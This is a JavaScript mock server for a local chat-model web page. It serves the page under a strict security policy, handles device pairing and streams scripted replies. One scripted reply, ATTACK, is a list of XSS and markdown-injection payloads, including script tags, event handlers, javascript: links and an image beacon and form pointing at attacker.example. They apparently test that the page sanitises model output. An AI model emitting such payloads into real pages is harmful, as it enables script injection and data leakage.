// A stand-in for the server: serves the page's files with the real security headers and speaks the real protocol, with
// answers made up by rules. For work on the page, and for tests of what a real model does not do on demand.
//
//     node mock.mjs [--port 8080] [--blind] [--lan] [--slow]

import { createHash } from "node:crypto";
import { readFile } from "node:fs/promises";
import { createServer } from "node:http";
import { extname, join, normalize } from "node:path";
import { fileURLToPath } from "node:url";

const PAGE = fileURLToPath(new URL("../../src/serve/page/", import.meta.url));

export const CSP =
  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' blob: data:; connect-src 'self'; manifest-src 'self'; " +
  "worker-src 'self'; font-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'";

const TYPES = {
  ".html": "text/html; charset=utf-8",
  ".css": "text/css; charset=utf-8",
  ".js": "text/javascript; charset=utf-8",
  ".svg": "image/svg+xml",
  ".png": "image/png",
  ".webmanifest": "application/manifest+json",
};

/** The pairing token of `--lan`. */
export const TOKEN = "k7fq-3mzd";

const MARKDOWN = `Here is a **short list**:

1. one
2. two, with \`inline code\`

## A heading

\`\`\`python
def area(radius):
    return 3.14159 * radius ** 2  # ${"a comment that is wide ".repeat(6)}
\`\`\`

| shape | sides |
|---|---:|
| triangle | 3 |
| square | 4 |

The area is $\\pi r^2$, and it costs $5 or $6.

$$\\frac{a}{b} = \\sqrt{x^2 + 1}$$

> A quotation, with [a link](https://example.org/page).

- [x] done
- [ ] open
`;

const ATTACK = `<script>window.hacked = "script"</script>

<img src="https://attacker.example/a.png" onerror="window.hacked = 'onerror'">

<iframe src="https://attacker.example/"></iframe> <svg onload="window.hacked='svg'"></svg>

![a picture](https://attacker.example/pixel.png?secret)

![mine](/page/icon.svg) ![data](data:image/svg+xml,<svg onload="alert(1)"/>)

[click](javascript:window.hacked='link') [data](data:text/html,<script>window.hacked='data'</script>) [fine](https://example.org/)

<a href="javascript:window.hacked='raw'" style="position:fixed;inset:0">over everything</a>

<style>body { display: none }</style><form action="https://attacker.example/"><input name="q"></form>

$\\href{javascript:window.hacked='math'}{x}$ and $\\includegraphics{https://attacker.example/m.png}$ and $\\unicode{<img src=x onerror=alert(1)>}$

[ref]: javascript:window.hacked='ref'

[ref] <https://example.org/auto>

<b onclick="window.hacked='b'">bold</b> H<sub>2</sub>O

End of the attack.
`;

/** Different pictures have different descriptions; most of them. */
const PAPER = "light,cream,white,yellow,pale,bright,warm,sandy,grey,dark,blue,green,pink,plain,striped,dotted".split(",");

const STORY =
  "A red circle and a blue square met at the edge of a sheet of paper. They had never seen anybody like the other. " +
  "The circle rolled, the square stood; together they made a cart. ";

/** @param {any} content */
function textOf(content) {
  if (typeof content === "string") return content;
  return content.filter((part) => part.type === "text").map((part) => part.text).join("\n\n");
}

/** @param {any[]} messages */
function picturesOf(messages) {
  return messages.flatMap((message) => (Array.isArray(message.content) ? message.content.filter((part) => part.type === "image_url").map((part) => part.image_url.url) : []));
}

/** What a rule says to a text, and how it is sent. */
function script(text, pictures, slow) {
  const pause = slow ? 45 : 4;
  if (/markdown/i.test(text)) return { text: MARKDOWN, pause };
  if (/attack/i.test(text)) return { text: ATTACK, pause };
  if (/long story/i.test(text)) return { text: `${STORY.trim()}\n\n`.repeat(60), pause: 25 };
  if (/longest length/i.test(text)) return { text: STORY, pause, finish: "length" };
  if (/break in the middle/i.test(text)) return { text: STORY, pause, error: { message: "The device was lost.", type: "server_error", param: null, code: null } };
  if (/hang up/i.test(text)) return { text: STORY, pause, hangUp: true };
  if (pictures.length > 0) return { text: `I see **a red circle** on the left and a blue square beside it. There are ${pictures.length === 1 ? "two shapes" : "several shapes"}.`, pause };
  return { text: `You said: ${text.slice(0, 200)}`, pause };
}

/**
 * @param {{blind?: boolean, lan?: boolean, slow?: boolean, port?: number}} [options]
 */
export async function startMock(options = {}) {
  /** @type {any[]} */
  const requests = [];
  const described = new Map();
  let cancelled = 0;
  let queueFull = 0;
  let devices = [
    { id: "d1", name: "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Version/18.1 Mobile/15E148 Safari/604.1", paired_at: 1764300000, last_seen: 1764310000, current: false },
    { id: "d2", name: "Mozilla/5.0 (Linux; Android 15) AppleWebKit/537.36 Chrome/131.0 Mobile Safari/537.36", paired_at: 1764200000, last_seen: 1764200500, current: false },
  ];
  const cookies = new Set();
  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

  const server = createServer(async (request, response) => {
    response.setHeader("Content-Security-Policy", CSP);
    response.setHeader("X-Content-Type-Options", "nosniff");
    response.setHeader("Referrer-Policy", "no-referrer");
    try {
      await handle(request, response);
    } catch (error) {
      console.error(error);
      if (!response.headersSent) json(response, 500, { error: { message: String(error), type: "server_error", param: null, code: null } });
      else response.destroy();
    }
  });

  const json = (response, status, value, headers = {}) => {
    response.writeHead(status, { "Content-Type": "application/json", "Cache-Control": "no-store", ...headers });
    response.end(JSON.stringify(value));
  };

  async function file(request, response, name, status = 200) {
    const path = normalize(join(PAGE, name));
    const type = TYPES[extname(path)];
    if (!path.startsWith(PAGE) || !type) return json(response, 404, { error: { message: `There is no ${name}.` } });
    let bytes;
    try {
      bytes = await readFile(path);
    } catch {
      return json(response, 404, { error: { message: `There is no ${name}.` } });
    }
    const tag = `"${createHash("sha256").update(bytes).digest("hex").slice(0, 32)}"`;
    if (request.headers["if-none-match"] === tag) return response.writeHead(304, { ETag: tag }).end();
    const headers = { "Content-Type": type, ETag: tag, "Cache-Control": "no-cache" };
    if (name === "worker.js") headers["Service-Worker-Allowed"] = "/";
    response.writeHead(status, headers);
    response.end(bytes);
  }

  async function handle(request, response) {
    const url = new URL(request.url ?? "/", "http://mock");
    const local = /^(127\.0\.0\.1|localhost)(:|$)/.test(request.headers.host ?? "");
    const paired = local || !options.lan || cookies.has(/dwindle_device=(\w+)/.exec(request.headers.cookie ?? "")?.[1]);
    if (url.pathname === "/pair") {
      if (url.searchParams.get("token") !== TOKEN) return file(request, response, "pair.html", 401);
      const id = createHash("sha256").update(String(Math.random())).digest("hex").slice(0, 16);
      cookies.add(id);
      response.writeHead(303, { Location: "/", "Set-Cookie": `dwindle_device=${id}; HttpOnly; SameSite=Strict; Path=/; Max-Age=31536000` });
      return response.end();
    }
    if (!paired) {
      if (url.pathname === "/") return file(request, response, "pair.html", 401);
      if (["/page/pair.css", "/page/icon.svg"].includes(url.pathname)) return file(request, response, url.pathname.slice(6));
      return json(response, 401, { error: { message: "This device is not paired.", type: "authentication_error", param: null, code: "unpaired" } });
    }
    if (url.pathname === "/") return file(request, response, "index.html");
    if (url.pathname.startsWith("/page/")) return file(request, response, url.pathname.slice(6));
    if (url.pathname === "/dwindle/info") return json(response, 200, info(local));
    if (url.pathname === "/dwindle/devices" && local) return json(response, 200, { devices, url: `http://192.168.1.20:8080/pair?token=${TOKEN}`, qr_svg: await qr() });
    if (url.pathname.startsWith("/dwindle/devices/") && request.method === "DELETE" && local) {
      devices = devices.filter((device) => `/dwindle/devices/${device.id}` !== url.pathname);
      return json(response, 200, {});
    }
    if (url.pathname === "/v1/chat/completions" && request.method === "POST") return complete(request, response);
    return json(response, 404, { error: { message: `There is no ${url.pathname}.`, type: "invalid_request_error", param: null, code: null } });
  }

  function info(local) {
    const sees = !options.blind;
    return {
      version: "0.6.0",
      model: "gemma-2-2b-it-q4",
      models: ["gemma-2-2b-it-q4"],
      sees,
      ensemble: sees,
      describer: sees ? "llava-onevision-0.5b-q4" : null,
      context: 4096,
      device: "cpu: AVX-512 VNNI, 2 threads",
      planned_peak_bytes: 2_040_109_465,
      resident_bytes: 1_503_238_553,
      anonymous_bytes: 201_000_000,
      slots: 2,
      queue: { length: 0, limit: 16 },
      busy: false,
      has_template: true,
      tools: false,
      picture_formats: ["image/png", "image/jpeg", "image/webp", "image/gif", "image/bmp"],
      sampling: { temperature: 0.7, top_p: 0.95, top_k: 64, min_p: 0, repetition_penalty: 1 },
      lan: { on: Boolean(options.lan), url: options.lan ? "http://192.168.1.20:8080" : null },
      local,
    };
  }

  async function complete(request, response) {
    const pieces = [];
    for await (const piece of request) pieces.push(piece);
    const body = JSON.parse(Buffer.concat(pieces).toString());
    requests.push(body);
    const pictures = picturesOf(body.messages);
    const text = textOf(body.messages[body.messages.length - 1].content);
    const error = (status, message, code, more = {}, headers = {}) => json(response, status, { error: { message, type: "invalid_request_error", param: null, code, ...more } }, headers);

    if (options.blind && pictures.length > 0) return error(400, "This model cannot see pictures.", "unsupported");
    if (/queue is full/i.test(text) && queueFull++ % 2 === 0) return error(503, "16 requests are waiting; try again later.", "queue_full", {}, { "Retry-After": "5" });
    const all = body.messages.map((message) => textOf(message.content)).join(" ");
    if (/too long a chat/i.test(all)) return error(400, "The conversation has 5120 tokens; the context holds 4096.", "context_length_exceeded", { dwindle: { prompt_tokens: 5120, context: 4096 } });
    if (/too many bytes/i.test(text)) return error(413, "The body is larger than 64 MiB.", "body_too_large");

    response.writeHead(200, { "Content-Type": "text/event-stream", "Cache-Control": "no-store" });
    let open = true;
    response.on("close", () => {
      if (!response.writableFinished) cancelled += 1;
      open = false;
    });
    const comment = (progress) => response.write(`: dwindle ${JSON.stringify(progress)}\n\n`);
    const chunk = (choices, more = {}) => response.write(`data: ${JSON.stringify({ id: "chatcmpl-1", object: "chat.completion.chunk", created: 0, model: "gemma-2-2b-it-q4", choices, ...more })}\n\n`);
    const step = options.slow ? 700 : 30;

    if (/wait in the queue/i.test(text)) {
      comment({ phase: "queued", position: 2 });
      await wait(step * 3);
    }
    const descriptions = [];
    let describeMs = 0;
    for (const [index, picture] of pictures.entries()) {
      const place = { picture: index + 1, pictures: pictures.length };
      const hash = createHash("sha256").update(picture).digest("hex");
      const cached = described.has(hash);
      if (!cached) {
        comment({ phase: "describing", ...place });
        await wait(step * 3);
        describeMs += 1840;
        described.set(hash, `The image shows a red circle on the left and a blue square on the right, on a ${PAPER[parseInt(hash[0], 16)]} background.`);
      }
      comment({ phase: "described", ...place, text: described.get(hash), cached });
      descriptions.push(described.get(hash));
      await wait(step);
    }
    const total = 60 + Math.ceil(all.length / 4) + pictures.length * 80;
    for (const share of [0, 0.4, 0.8, 1]) {
      comment({ phase: "prefill", done: Math.round(total * share), total, cached: 0 });
      await wait(step);
    }
    comment({ phase: "waiting" });
    chunk([{ index: 0, delta: { role: "assistant", content: "" }, finish_reason: null }]);

    const { text: answer, pause, finish = "stop", error: failure, hangUp } = script(text, pictures, options.slow);
    const words = answer.match(/\s*\S+\s*?|\s+/g) ?? [];
    const until = failure || hangUp ? 6 : words.length;
    for (const word of words.slice(0, until)) {
      if (!open) return;
      chunk([{ index: 0, delta: { content: word }, finish_reason: null }]);
      await wait(pause);
    }
    if (hangUp) return response.destroy();
    if (failure) {
      response.write(`data: ${JSON.stringify({ error: failure })}\n\n`);
      return response.end();
    }
    chunk([{ index: 0, delta: {}, finish_reason: finish }], {
      dwindle: { descriptions, forgotten_turns: 0 },
      timings: { prompt_n: total, cache_n: 0, prompt_ms: 1240, prompt_per_second: 160, predicted_n: words.length, predicted_ms: words.length * 80, predicted_per_second: 12.5, describe_ms: describeMs, encode_ms: 0 },
    });
    if (body.stream_options?.include_usage) chunk([], { usage: { prompt_tokens: total, completion_tokens: words.length, total_tokens: total + words.length } });
    response.write("data: [DONE]\n\n");
    response.end();
  }

  await new Promise((resolve) => server.listen(options.port ?? 0, "127.0.0.1", () => resolve(undefined)));
  const { port } = /** @type {import("node:net").AddressInfo} */ (server.address());
  return {
    url: `http://127.0.0.1:${port}`,
    port,
    requests,
    cancelled: () => cancelled,
    close() {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(resolve));
    },
  };
}

/** Squares in the look of a code; the mock's address is not worth a real one. */
async function qr() {
  let path = "";
  for (let y = 0; y < 29; y += 1) {
    for (let x = 0; x < 29; x += 1) {
      const corner = [[0, 0], [22, 0], [0, 22]].find(([cx, cy]) => x >= cx && x < cx + 7 && y >= cy && y < cy + 7);
      const [dx, dy] = corner ? [x - corner[0], y - corner[1]] : [0, 0];
      const ring = Math.max(Math.abs(dx - 3), Math.abs(dy - 3));
      const on = corner ? ring !== 2 : createHash("md5").update(`${x},${y}`).digest()[0] % 2 === 1;
      if (on) path += `M${x} ${y}h1v1h-1z`;
    }
  }
  return `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 29 29" shape-rendering="crispEdges"><path d="${path}"/></svg>`;
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const flag = (name) => process.argv.includes(`--${name}`);
  const port = Number(process.argv[process.argv.indexOf("--port") + 1]) || 8080;
  const mock = await startMock({ blind: flag("blind"), lan: flag("lan"), slow: flag("slow"), port });
  console.log(`The page is at ${mock.url}${flag("lan") ? `; the pairing token is ${TOKEN}` : ""}`);
}
